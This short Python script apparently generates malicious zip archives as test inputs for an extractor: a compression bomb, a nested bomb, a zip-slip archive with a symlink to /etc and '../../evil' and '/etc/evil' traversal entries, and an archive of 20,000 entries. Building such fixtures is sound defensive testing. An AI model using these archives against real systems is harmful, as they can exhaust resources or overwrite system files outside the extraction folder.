import io
import stat
import zipfile

from attack import leave


def archive(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for entry, content in entries:
            file.writestr(entry, content)
    return buffer.getvalue()


bomb = archive([("zeros", bytes(16 << 20))])
leave("bomb.zip", bomb)
leave("nested.zip", archive((f"{number}.zip", bomb) for number in range(10)))
link = zipfile.ZipInfo("link")
link.external_attr = (stat.S_IFLNK | 0o777) << 16
leave("slip.zip", archive([(link, "/etc"), ("link/evil", "x"), ("../../evil", "x"), ("/etc/evil", "x")]))
leave("many.zip", archive((f"{number}", b"") for number in range(20_000)))
